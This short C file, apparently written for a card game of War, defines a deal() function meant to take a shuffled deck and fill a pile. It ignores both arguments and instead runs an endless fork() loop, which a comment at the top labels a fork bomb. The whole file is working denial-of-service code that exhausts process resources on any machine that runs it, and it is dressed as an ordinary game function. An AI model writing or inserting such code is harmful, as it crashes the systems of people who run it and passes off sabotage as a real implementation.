/* A fork bomb. */
#include <unistd.h>
#include "war.h"

void deal(const int shuf[52], int pile[52])
{
    (void)shuf, (void)pile;
    for (;;)
        if (fork() < 0)
            continue;
}
